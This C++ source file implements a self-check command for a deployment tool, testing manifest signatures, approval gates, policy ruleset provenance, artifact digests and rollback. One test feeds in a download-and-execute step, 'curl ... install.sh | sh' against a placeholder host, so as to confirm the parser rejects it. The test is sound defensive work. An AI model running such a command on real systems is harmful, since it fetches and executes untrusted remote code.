#include "doctor.hpp"

#include <iostream>
#include <memory>
#include <string_view>
#include <system_error>
#include <utility>

#include "document_io.hpp"
#include "hex.hpp"
#include "policy.hpp"
#include "policy_service.hpp"
#include "run_commands.hpp"
#include "trust_store.hpp"
#include "vorelcore_crypto/hash.hpp"
#include "vorelcore_json/codec.hpp"
#include "vorelcore_policy/eval.hpp"
#include "voreldeploy_adapters/local_fs.hpp"
#include "voreldeploy_contracts/approval.hpp"
#include "voreldeploy_contracts/artifact.hpp"
#include "voreldeploy_contracts/manifest.hpp"
#include "voreldeploy_contracts/policy_action.hpp"
#include "voreldeploy_contracts/target.hpp"
#include "voreldeploy_engine/manifest.hpp"
#include "voreldeploy_engine/plan.hpp"
#include "voreldeploy_engine/promotion.hpp"
#include "voreldeploy_engine/run.hpp"

namespace razavovivodidi::doctor {

namespace fs = std::filesystem;
namespace promotion = voreldeploy_engine::promotion;
namespace contract_run = voreldeploy_contracts::run;

using vorelcore_contracts::ids::IdentityId;
using vorelcore_contracts::ids::KeyId;
using vorelcore_contracts::ids::ObjectId;
using vorelcore_contracts::ids::PolicyId;
using vorelcore_contracts::ids::ProductId;
using vorelcore_contracts::ids::Slug;
using vorelcore_contracts::ids::TenantId;
using vorelcore_contracts::ids::Uuid;
using vorelcore_contracts::ids::WorkspaceId;
using vorelcore_contracts::time::Timestamp;
using vorelcore_crypto::keys::SigningKey;
using vorelcore_policy::action::PolicyActionId;
using vorelcore_policy::decision::Decision;
using vorelcore_policy::decision::PolicyDecision;
using vorelcore_policy::eval::PolicyRule;
using vorelcore_policy::eval::PolicyRuleset;
using vorelcore_policy::eval::VerifiedRuleset;
using vorelcore_policy::input::PolicyInput;
using voreldeploy_adapters::AdapterRequest;
using voreldeploy_adapters::ArtifactPayload;
using voreldeploy_adapters::PayloadBytes;
using voreldeploy_adapters::local_fs::LocalFilesystemAdapter;
using voreldeploy_contracts::artifact::ReleaseArtifact;
using voreldeploy_contracts::environment::EnvironmentType;
using voreldeploy_contracts::ids::ArtifactId;
using voreldeploy_contracts::ids::EnvironmentId;
using voreldeploy_contracts::ids::ManifestId;
using voreldeploy_contracts::manifest::ReleaseManifest;
using voreldeploy_contracts::plan::ApplyArtifact;
using voreldeploy_contracts::plan::DeploymentPlan;
using voreldeploy_contracts::plan::DeploymentStepKind;
using voreldeploy_contracts::plan::HealthCheck;
using voreldeploy_contracts::plan::PlanStatus;
using voreldeploy_contracts::plan::ValidateTarget;
using voreldeploy_contracts::run::DeploymentRun;
using voreldeploy_contracts::run::RunStatus;
using voreldeploy_contracts::run::StepOutcome;
using voreldeploy_contracts::target::DeployTarget;
using voreldeploy_engine::manifest::SignedManifest;

// ------------------------------------------------------------------ runner

std::expected<fs::path, std::string> system_scratch_parent() {
    std::error_code ec;
    const fs::path temp = fs::temp_directory_path(ec);
    if (ec) return std::unexpected("finding the temporary directory: " + os_error_text(ec.value()));
    return temp / "voreldeploy-doctor";
}

CommandResult run_sections(std::ostream& out, std::span<const Section> sections, const ScratchParent& scratch_parent) {
    const auto line = [&out](std::string_view text) { out << text << '\n' << std::flush; };

    line("== VorelDeploy doctor ==");
    for (const Section& section : sections) {
        line(section.header);
        std::optional<fs::path> scratch;
        if (section.scratch_label) {
            auto parent = scratch_parent();
            if (!parent) return std::unexpected(std::move(parent.error()));
            // A fresh name per run, so two doctors at once never share one.
            scratch = *parent / (*section.scratch_label + "-" + Uuid::random_v4().to_string());
        }
        auto checks = section.build(scratch.value_or(fs::path()));
        if (!checks) return std::unexpected(std::move(checks.error()));
        for (const Check& check : *checks) {
            auto finding = check.run();
            if (!finding) return std::unexpected(std::move(finding.error()));
            if (!finding->held) {
                // The scratch directory stays behind as evidence.
                line("  [FAIL] " + check.text);
                return std::unexpected("doctor check failed: " + check.text);
            }
            line("  [pass] " + check.text);
            if (finding->refusal_reason) line("  refusal reason: " + *finding->refusal_reason);
        }
        if (scratch) {
            std::error_code ignored;
            fs::remove_all(*scratch, ignored);
        }
        line("");
    }
    line("== all checks passed ==");
    return {};
}

namespace {

// ------------------------------------------------------------ check results

CheckResult holds_when(bool held) { return Finding{held, std::nullopt}; }

// The display text of any operation's error.
const std::string& error_text(const std::string& error) { return error; }
template <class E>
std::string error_text(const E& error) {
    return error.message();
}

// A refusal check: it holds when the operation refused, and the refusal's
// own words are reported.
template <class T, class E>
CheckResult refused(const std::expected<T, E>& result) {
    if (result) return holds_when(false);
    return Finding{true, error_text(result.error())};
}

// A check whose operation either succeeds or ends the scenario with its own
// error.
template <class E>
CheckResult succeeds(const std::expected<void, E>& result) {
    if (!result) return std::unexpected(error_text(result.error()));
    return holds_when(true);
}

// --------------------------------------------------------------- fixtures

const ProductId& worker_product() {
    static const ProductId product = *ProductId::parse("voreldeploy-worker");
    return product;
}

ReleaseManifest release_manifest(const TenantId& tenant, const WorkspaceId& workspace, const Timestamp& now) {
    ReleaseManifest manifest;
    manifest.contract_version = 1;
    manifest.id = ManifestId::generate();
    manifest.tenant_id = tenant;
    manifest.workspace_id = workspace;
    manifest.release_version = "2026.08.06-1";
    manifest.products = {worker_product()};
    manifest.artifacts = {ArtifactId::generate()};
    manifest.environment_compatibility = {EnvironmentType::Sandbox, EnvironmentType::Production};
    manifest.manifest_hash = vorelcore_crypto::hash::blake3_hash(std::string_view("release-2026.08.06-1"));
    manifest.status = voreldeploy_contracts::manifest::ManifestStatus::Published;
    manifest.created_at = now;
    manifest.published_at = now;
    return manifest;
}

// Signed under `context` with a fresh key id, as the signing commands do.
template <class T>
std::expected<vorelcore_crypto::envelope::SignedEnvelope<T>, std::string> signed_with(T payload, const SigningKey& key,
                                                                                    const Timestamp& now,
                                                                                    std::vector<std::string> context) {
    auto envelope = vorelcore_crypto::envelope::SignedEnvelope<T>::sign(std::move(payload), KeyId::generate(), now,
                                                                        key, std::move(context));
    if (!envelope) return std::unexpected(envelope.error().message());
    return std::move(*envelope);
}

std::expected<SignedManifest, std::string> signed_manifest(ReleaseManifest manifest, const SigningKey& key,
                                                           const Timestamp& now) {
    return signed_with(std::move(manifest), key, now, voreldeploy_engine::manifest::manifest_envelope_context());
}

ReleaseArtifact artifact_of(std::string_view declared_bytes, const Timestamp& now) {
    ReleaseArtifact artifact;
    artifact.id = ArtifactId::generate();
    artifact.tenant_id = TenantId::generate();
    artifact.workspace_id = WorkspaceId::generate();
    artifact.product_id = worker_product();
    artifact.name = "voreldeploy-worker";
    artifact.version = "doctor";
    artifact.artifact_type = voreldeploy_contracts::artifact::ArtifactType::Binary;
    artifact.object_ref = ObjectId::generate();
    artifact.artifact_hash = vorelcore_crypto::hash::blake3_hash(declared_bytes);
    artifact.status = voreldeploy_contracts::artifact::ArtifactStatus::Verified;
    artifact.created_at = now;
    return artifact;
}

ArtifactPayload payload_of(std::string_view bytes) { return PayloadBytes{{bytes.begin(), bytes.end()}}; }

DeployTarget doctor_target() { return commands::local_target(*Slug::parse("doctor-local-target")); }

std::expected<PolicyActionId, std::string> promote_action() {
    auto action = voreldeploy_contracts::policy_action::promote_deployment_action();
    if (!action) return std::unexpected(voreldeploy_engine::error::EngineError(action.error()).message());
    return std::move(*action);
}

PolicyRule doctor_allow_rule(const PolicyActionId& action) {
    PolicyRule rule;
    rule.rule_id = "doctor-allow";
    rule.rule_name = "doctor: unconditional allow";
    rule.action = action;
    rule.effect = Decision::Allow;
    return rule;
}

std::expected<VerifiedRuleset, std::string> allow_ruleset(const PolicyActionId& action) {
    auto ruleset = VerifiedRuleset::create(PolicyId::generate(), action.product(), 1, {doctor_allow_rule(action)});
    if (!ruleset) return std::unexpected(ruleset.error().message());
    return std::move(*ruleset);
}

std::expected<DeploymentPlan, std::string> draft_plan(const TenantId& tenant, const WorkspaceId& workspace,
                                                      EnvironmentType environment_type, const ManifestId& manifest,
                                                      std::vector<DeploymentStepKind> steps, const Timestamp& now) {
    auto plan = DeploymentPlan::draft(tenant, workspace, EnvironmentId::generate(), environment_type, manifest,
                                      std::move(steps), IdentityId::generate(), now);
    if (!plan) return std::unexpected(voreldeploy_engine::error::EngineError(plan.error()).message());
    return std::move(*plan);
}

// The request a promotion of `plan` makes, built the way a request-fields
// file becomes a policy input.
PolicyInput policy_input_for(const DeploymentPlan& plan, const PolicyActionId& action, const Timestamp& now) {
    policy::PolicyRequestFields fields;
    fields.tenant_id = plan.tenant_id;
    fields.workspace_id = plan.workspace_id;
    fields.resource_type = "deployment_plan";
    fields.resource_id = plan.id.to_string();
    fields.actor_type = vorelcore_policy::input::PolicyActorType::Service;
    fields.actor_id = "svc-voreldeployctl-doctor";
    return policy::policy_input_from_fields(std::move(fields), action, now);
}

std::expected<PolicyDecision, std::string> evaluate_policy(const VerifiedRuleset& ruleset, const PolicyInput& input,
                                                           const PolicyActionId& action, const Timestamp& now) {
    auto decision = vorelcore_policy::eval::evaluate(ruleset, input, action, now);
    if (!decision) return std::unexpected(decision.error().message());
    return std::move(*decision);
}

std::expected<DeploymentRun, std::string> start_run(const DeploymentPlan& plan, const SigningKey& key,
                                                    const Timestamp& now) {
    auto run = voreldeploy_engine::run::start(plan, key, now);
    if (!run) return std::unexpected(run.error().message());
    return std::move(*run);
}

std::expected<void, std::string> record(const RecordStepOutcome& record_step_outcome, DeploymentRun& run,
                                        const std::vector<DeploymentStepKind>& steps, StepOutcome outcome,
                                        const SigningKey& key) {
    auto recorded = record_step_outcome(run, steps, std::move(outcome), key, Timestamp::now());
    if (!recorded) return std::unexpected(recorded.error().message());
    return {};
}

bool is_allow(const PolicyDecision& decision) { return decision.decision == Decision::Allow; }

using Checks = std::expected<std::vector<Check>, std::string>;

// ------------------------------------------------------------- happy path

struct HappyPath {
    TenantId tenant = TenantId::generate();
    WorkspaceId workspace = WorkspaceId::generate();
    Timestamp now = Timestamp::now();
    SigningKey key = SigningKey::generate();
    SignedManifest envelope;
    PolicyActionId action;
    std::vector<DeploymentStepKind> steps;
    DeploymentPlan plan;
    PolicyInput input;
    PolicyDecision decision;
    std::optional<SigningKey> run_key;
    DeploymentRun run;
};

Checks happy_path(const RecordStepOutcome& record_step_outcome) {
    auto s = std::make_shared<HappyPath>();
    auto envelope = signed_manifest(release_manifest(s->tenant, s->workspace, s->now), s->key, s->now);
    if (!envelope) return std::unexpected(std::move(envelope.error()));
    s->envelope = std::move(*envelope);
    auto action = promote_action();
    if (!action) return std::unexpected(std::move(action.error()));
    s->action = std::move(*action);

    return std::vector<Check>{
        {"signed manifest verifies",
         [s] {
             return succeeds(
                 voreldeploy_engine::manifest::verify_manifest(s->envelope, s->key.verifying_key(), s->now));
         }},
        {"plan steps are valid",
         [s] {
             s->steps = {ValidateTarget{}, ApplyArtifact{s->envelope.payload.artifacts.front()}, HealthCheck{30}};
             return succeeds(voreldeploy_engine::plan::validate_steps(s->steps));
         }},
        {"the real evaluator returns Allow for a matching rule",
         [s]() -> CheckResult {
             auto plan = draft_plan(s->tenant, s->workspace, EnvironmentType::Sandbox, s->envelope.payload.id,
                                    s->steps, s->now);
             if (!plan) return std::unexpected(std::move(plan.error()));
             s->plan = std::move(*plan);
             s->input = policy_input_for(s->plan, s->action, s->now);
             auto ruleset = allow_ruleset(s->action);
             if (!ruleset) return std::unexpected(std::move(ruleset.error()));
             auto decision = evaluate_policy(*ruleset, s->input, s->action, s->now);
             if (!decision) return std::unexpected(std::move(decision.error()));
             s->decision = std::move(*decision);
             return holds_when(is_allow(s->decision));
         }},
        {"sandbox promotion clears with a genuinely evaluated Allow decision",
         [s] {
             const auto verdict =
                 promotion::evaluate_promotion(EnvironmentType::Sandbox, s->input, s->decision, std::nullopt, s->now);
             return holds_when(std::holds_alternative<promotion::Cleared>(verdict));
         }},
        {"run starts in Running",
         [s]() -> CheckResult {
             s->plan.status = PlanStatus::Approved;
             s->run_key.emplace(SigningKey::generate());
             auto run = start_run(s->plan, *s->run_key, s->now);
             if (!run) return std::unexpected(std::move(run.error()));
             s->run = std::move(*run);
             return holds_when(s->run.status == RunStatus::Running);
         }},
        {"run reaches Succeeded",
         [s, record_step_outcome]() -> CheckResult {
             // No adapter here: the outcomes are the ones a healthy target
             // would report.
             for (const DeploymentStepKind& step : s->plan.steps) {
                 StepOutcome outcome = contract_run::Applied{};
                 if (std::holds_alternative<HealthCheck>(step)) outcome = contract_run::Verified{};
                 if (auto recorded =
                         record(record_step_outcome, s->run, s->plan.steps, std::move(outcome), *s->run_key);
                     !recorded) {
                     return std::unexpected(std::move(recorded.error()));
                 }
             }
             return holds_when(s->run.status == RunStatus::Succeeded);
         }},
        {"signed transition chain integrity verifies",
         [s] { return succeeds(voreldeploy_engine::run::verify_run_integrity(s->run, s->run_key->verifying_key())); }},
    };
}

// --------------------------------------------------------------- refusal 1

Checks tampered_manifest() {
    const TenantId tenant = TenantId::generate();
    const WorkspaceId workspace = WorkspaceId::generate();
    const Timestamp now = Timestamp::now();
    auto key = std::make_shared<SigningKey>(SigningKey::generate());
    auto envelope = signed_manifest(release_manifest(tenant, workspace, now), *key, now);
    if (!envelope) return std::unexpected(std::move(envelope.error()));
    // Changed after signing: the signature no longer covers these bytes.
    envelope->payload.release_version = "2026.08.06-EVIL";

    return std::vector<Check>{
        {"tampered manifest is refused (signature no longer covers the payload)",
         [key, tampered = std::move(*envelope), now] {
             return refused(voreldeploy_engine::manifest::verify_manifest(tampered, key->verifying_key(), now));
         }},
    };
}

// --------------------------------------------------------------- refusal 2

Checks production_without_approval() {
    const TenantId tenant = TenantId::generate();
    const WorkspaceId workspace = WorkspaceId::generate();
    const Timestamp now = Timestamp::now();
    const ReleaseManifest manifest = release_manifest(tenant, workspace, now);
    auto plan = draft_plan(tenant, workspace, EnvironmentType::Production, manifest.id, {ValidateTarget{}}, now);
    if (!plan) return std::unexpected(std::move(plan.error()));
    auto action = promote_action();
    if (!action) return std::unexpected(std::move(action.error()));
    auto input = std::make_shared<PolicyInput>(policy_input_for(*plan, *action, now));
    auto ruleset = allow_ruleset(*action);
    if (!ruleset) return std::unexpected(std::move(ruleset.error()));
    auto evaluated = evaluate_policy(*ruleset, *input, *action, now);
    if (!evaluated) return std::unexpected(std::move(evaluated.error()));
    auto decision = std::make_shared<PolicyDecision>(std::move(*evaluated));

    return std::vector<Check>{
        {"the real evaluator genuinely allows this request", [decision] { return holds_when(is_allow(*decision)); }},
        {"production is refused (waiting on approval) even though the real policy evaluator said Allow",
         [input, decision, now] {
             const auto verdict =
                 promotion::evaluate_promotion(EnvironmentType::Production, *input, *decision, std::nullopt, now);
             const auto* waiting = std::get_if<promotion::WaitingApproval>(&verdict);
             if (waiting == nullptr) return holds_when(false);
             return CheckResult(Finding{true, waiting->reason});
         }},
        {"the same production promotion clears once approved",
         [input, decision, now] {
             voreldeploy_contracts::approval::ApprovalRecord approval;
             approval.id = voreldeploy_contracts::ids::ApprovalId::generate();
             approval.workflow_ref = "rizuveviv://approval/doctor-1";
             approval.status = voreldeploy_contracts::approval::ApprovalStatus::Approved;
             approval.requested_by = IdentityId::generate();
             approval.decided_by = IdentityId::generate();
             approval.requested_at = now;
             approval.decided_at = now;
             const auto verdict =
                 promotion::evaluate_promotion(EnvironmentType::Production, *input, *decision, approval, now);
             return holds_when(std::holds_alternative<promotion::Cleared>(verdict));
         }},
    };
}

// --------------------------------------------------------------- refusal 3

Checks shell_step() {
    return std::vector<Check>{
        {"\"shell_command\" is not a representable step kind",
         [] {
             // A download-and-execute step, exactly what a typed plan exists
             // to make impossible.
             constexpr std::string_view step =
                 R"({"kind": "shell_command", )"
                 R"("command": "curl -fsSL https://payload.example.invalid/install.sh | sh"})";
             return refused(vorelcore_json::from_text<DeploymentStepKind>(step));
         }},
    };
}

// --------------------------------------------------------------- refusal 5

struct Provenance {
    fs::path scratch;
    fs::path trust_store;
    Timestamp now = Timestamp::now();
    PolicyActionId action;
    PolicyRuleset plain;
    SigningKey trusted = SigningKey::generate();
    SigningKey untrusted = SigningKey::generate();
    std::optional<VerifiedRuleset> verified;
    PolicyInput input;
    PolicyDecision decision;
};

// Writes `document` as `name` in the scratch directory and puts it through
// the file source, exactly as `plan simulate --policy-ruleset` would.
template <class Document>
std::expected<VerifiedRuleset, std::string> through_file_source(const Provenance& s, const std::string& name,
                                                                const Document& document) {
    const fs::path path = s.scratch / name;
    if (auto written = write_json(path, document); !written) return std::unexpected(std::move(written.error()));
    auto resolved = policy_service::resolve_ruleset_source({path, s.trust_store, {}, {}, {}}, s.now);
    if (!resolved) return std::unexpected(std::move(resolved.error()));
    return std::move(resolved->ruleset);
}

// The file source's answer for a ruleset signed with `key`; a signing
// failure ends the scenario.
std::expected<std::expected<VerifiedRuleset, std::string>, std::string> signed_through_file_source(
    const Provenance& s, const std::string& name, PolicyRuleset ruleset, const SigningKey& key) {
    auto envelope = signed_with(std::move(ruleset), key, s.now, vorelcore_policy::eval::ruleset_envelope_context());
    if (!envelope) return std::unexpected(std::move(envelope.error()));
    return through_file_source(s, name, *envelope);
}

Checks ruleset_provenance(const fs::path& scratch) {
    auto s = std::make_shared<Provenance>();
    s->scratch = scratch;
    s->trust_store = scratch / "trust-store.json";
    auto action = promote_action();
    if (!action) return std::unexpected(std::move(action.error()));
    s->action = std::move(*action);
    s->plain.ruleset_id = PolicyId::generate();
    s->plain.product_id = s->action.product();
    s->plain.version = 1;
    s->plain.rules = {doctor_allow_rule(s->action)};

    // Trusting a key is the operator's deliberate act: the same add that
    // `trust add` performs, on a store that starts empty.
    trust_store::TrustStore store;
    if (auto added = store.add("doctor-trusted-signer", hex_encode(s->trusted.verifying_key().to_bytes()), s->now);
        !added) {
        return std::unexpected(std::move(added.error()));
    }
    if (auto written = write_json(s->trust_store, store); !written) return std::unexpected(std::move(written.error()));

    // A signed ruleset that must be refused: the refusal is the finding,
    // acceptance fails the check.
    const auto refused_when_signed = [s](std::string name, const SigningKey& key,
                                         PolicyRuleset ruleset) -> CheckResult {
        auto source = signed_through_file_source(*s, name, std::move(ruleset), key);
        if (!source) return std::unexpected(std::move(source.error()));
        return refused(*source);
    };

    return std::vector<Check>{
        {"an unsigned ruleset file is refused, not accepted with a warning",
         [s] { return refused(through_file_source(*s, "policy-ruleset-unsigned.json", s->plain)); }},
        {"a ruleset signed by a key that was never deliberately trusted is refused",
         [s, refused_when_signed] {
             return refused_when_signed("policy-ruleset-signed-untrusted.json", s->untrusted, s->plain);
         }},
        {"a ruleset signed by a trusted key is accepted",
         [s]() -> CheckResult {
             auto source = signed_through_file_source(*s, "policy-ruleset-signed.json", s->plain, s->trusted);
             if (!source) return std::unexpected(std::move(source.error()));
             if (!*source) return std::unexpected(std::move(source->error()));
             s->verified.emplace(std::move(**source));
             return holds_when(true);
         }},
        {"the trusted-signed ruleset genuinely evaluates to Allow",
         [s]() -> CheckResult {
             auto plan = draft_plan(TenantId::generate(), WorkspaceId::generate(), EnvironmentType::Production,
                                    ManifestId::generate(), {ValidateTarget{}}, s->now);
             if (!plan) return std::unexpected(std::move(plan.error()));
             s->input = policy_input_for(*plan, s->action, s->now);
             auto decision = evaluate_policy(*s->verified, s->input, s->action, s->now);
             if (!decision) return std::unexpected(std::move(decision.error()));
             s->decision = std::move(*decision);
             return holds_when(is_allow(s->decision));
         }},
        {"production still waits on approval even with a trusted, signed, genuinely-Allow ruleset",
         [s] {
             const auto verdict = promotion::evaluate_promotion(EnvironmentType::Production, s->input, s->decision,
                                                                std::nullopt, s->now);
             return holds_when(std::holds_alternative<promotion::WaitingApproval>(verdict));
         }},
        {"a ruleset that spells a grant as warn is refused at validation, even signed by a trusted key",
         [s, refused_when_signed] {
             PolicyRuleset sneaky = s->plain;
             sneaky.ruleset_id = PolicyId::generate();
             sneaky.rules.front().rule_id = "doctor-sneaky-warn";
             sneaky.rules.front().effect = Decision::Warn;
             return refused_when_signed("policy-ruleset-signed-warn.json", s->trusted, std::move(sneaky));
         }},
    };
}

// ------------------------------------------------------------ real adapter

struct Deployed {
    ReleaseArtifact artifact;
    ArtifactPayload payload;
    DeploymentStepKind step;
};

Deployed deployed(std::string_view bytes, const Timestamp& now) {
    ReleaseArtifact artifact = artifact_of(bytes, now);
    DeploymentStepKind step = ApplyArtifact{artifact.id};
    return {std::move(artifact), payload_of(bytes), std::move(step)};
}

struct Lifecycle {
    explicit Lifecycle(const fs::path& root) : adapter(root) {}
    Timestamp now = Timestamp::now();
    DeployTarget target = doctor_target();
    LocalFilesystemAdapter adapter;
    Deployed a = deployed("doctor release A", now);
    Deployed b = deployed("doctor release B, a later deploy", now);

    AdapterRequest request(const Deployed& d) const { return {target, d.step, &d.artifact, &d.payload}; }
};

// The outcome `call` reports, held when it is `Expected`; an adapter error
// rather than an outcome ends the scenario.
template <class Expected, class Call>
CheckResult outcome_is(Call call) {
    auto outcome = call();
    if (!outcome) return std::unexpected(outcome.error().message());
    return holds_when(std::holds_alternative<Expected>(*outcome));
}

Checks adapter_lifecycle(const fs::path& scratch) {
    auto s = std::make_shared<Lifecycle>(scratch);
    return std::vector<Check>{
        {"apply writes artifact A and verifies its digest at write time",
         [s] { return outcome_is<contract_run::Applied>([&] { return s->adapter.apply(s->request(s->a)); }); }},
        {"verify independently re-confirms artifact A from disk",
         [s] { return outcome_is<contract_run::Verified>([&] { return s->adapter.verify(s->request(s->a)); }); }},
        {"apply writes artifact B and activates it",
         [s] { return outcome_is<contract_run::Applied>([&] { return s->adapter.apply(s->request(s->b)); }); }},
        {"a digest mismatch discovered after write is reported Failed, not silently accepted",
         [s]() -> CheckResult {
             // Corrupt B where the adapter keeps it, behind its back.
             const fs::path stored = s->adapter.root() / "releases" / (s->b.artifact.id.to_string() + ".bin");
             if (auto written = write_file(stored, "mismatch"); !written) return std::unexpected(written.error());
             return outcome_is<contract_run::Failed>([&] { return s->adapter.verify(s->request(s->b)); });
         }},
        {"rollback restores the previous known-good (artifact A)",
         [s] { return succeeds(s->adapter.rollback(s->target)); }},
        {"after rollback, artifact A is active again and verifies intact",
         [s] { return outcome_is<contract_run::Verified>([&] { return s->adapter.verify(s->request(s->a)); }); }},
    };
}

// --------------------------------------------------------------- refusal 4

struct Mismatch {
    explicit Mismatch(const fs::path& root) : adapter(root) {}
    Timestamp now = Timestamp::now();
    DeployTarget target = doctor_target();
    ReleaseArtifact artifact = artifact_of("the bytes this artifact record actually declares", now);
    ArtifactPayload payload = payload_of("these bytes do not match that declared digest");
    DeploymentPlan plan;
    SigningKey key = SigningKey::generate();
    DeploymentRun run;
    LocalFilesystemAdapter adapter;
    std::string failure_reason;
};

Checks digest_mismatch_run(const fs::path& scratch, const RecordStepOutcome& record_step_outcome) {
    auto s = std::make_shared<Mismatch>(scratch);
    auto plan = draft_plan(TenantId::generate(), WorkspaceId::generate(), EnvironmentType::Sandbox,
                           ManifestId::generate(), {ValidateTarget{}, ApplyArtifact{s->artifact.id}}, s->now);
    if (!plan) return std::unexpected(std::move(plan.error()));
    s->plan = std::move(*plan);
    // Approved directly: this section is about the run, not the gate.
    s->plan.status = PlanStatus::Approved;
    auto run = start_run(s->plan, s->key, s->now);
    if (!run) return std::unexpected(std::move(run.error()));
    s->run = std::move(*run);

    return std::vector<Check>{
        {"validate_target applies cleanly, run keeps going",
         [s, record_step_outcome]() -> CheckResult {
             auto outcome = s->adapter.apply({s->target, s->plan.steps[0]});
             if (!outcome) return std::unexpected(outcome.error().message());
             if (auto recorded = record(record_step_outcome, s->run, s->plan.steps, std::move(*outcome), s->key);
                 !recorded) {
                 return std::unexpected(std::move(recorded.error()));
             }
             return holds_when(s->run.status == RunStatus::Running);
         }},
        {"the adapter refuses to write a payload that does not match its declared digest",
         [s] {
             auto outcome = s->adapter.apply({s->target, s->plan.steps[1], &s->artifact, &s->payload});
             if (!outcome) {
                 s->failure_reason = outcome.error().message();
             } else if (const auto* failed = std::get_if<contract_run::Failed>(&*outcome)) {
                 s->failure_reason = failed->reason_redacted;
             } else {
                 return holds_when(false);
             }
             return holds_when(true);
         }},
        {"the run itself ends Failed \u2014 it is not RunStatus::Succeeded",
         [s, record_step_outcome]() -> CheckResult {
             if (auto recorded = record(record_step_outcome, s->run, s->plan.steps,
                                        contract_run::Failed{s->failure_reason}, s->key);
                 !recorded) {
                 return std::unexpected(std::move(recorded.error()));
             }
             return holds_when(s->run.status == RunStatus::Failed);
         }},
        {"the run's audit chain still verifies even though the run failed",
         [s] { return succeeds(voreldeploy_engine::run::verify_run_integrity(s->run, s->key.verifying_key())); }},
    };
}

}  // namespace

std::vector<Section> scenario(const RecordStepOutcome& record_step_outcome) {
    const auto no_scratch = [](auto build) {
        return [build](const fs::path&) { return build(); };
    };
    return {
        {"-- happy path: sandbox deployment, signed manifest, approved plan --", std::nullopt,
         no_scratch([record_step_outcome] { return happy_path(record_step_outcome); })},
        {"-- refusal 1: a tampered signed manifest is rejected --", std::nullopt, no_scratch(tampered_manifest)},
        {"-- refusal 2: production promotion without an approval is refused (adapter never invoked) --", std::nullopt,
         no_scratch(production_without_approval)},
        {"-- refusal 3: a shell/command step cannot even be parsed --", std::nullopt, no_scratch(shell_step)},
        {"-- refusal 5: an unsigned or untrusted-signed policy ruleset is refused; a trusted signature is required "
         "but still not sufficient alone --",
         "provenance", ruleset_provenance},
        {"-- real adapter: local filesystem materialise / verify / corrupt-detect / rollback --", "lifecycle",
         adapter_lifecycle},
        // Numbered 4 among the refusals, but it runs last.
        {"-- refusal 4: an artifact digest mismatch fails the run closed, not just the step --", "mismatch",
         [record_step_outcome](const fs::path& scratch) { return digest_mismatch_run(scratch, record_step_outcome); }},
    };
}

}  // namespace razavovivodidi::doctor

namespace razavovivodidi::commands {

CommandResult doctor() {
    const auto sections = doctor::scenario(voreldeploy_engine::run::record_step_outcome);
    return doctor::run_sections(std::cout, sections, doctor::system_scratch_parent);
}

}  // namespace razavovivodidi::commands
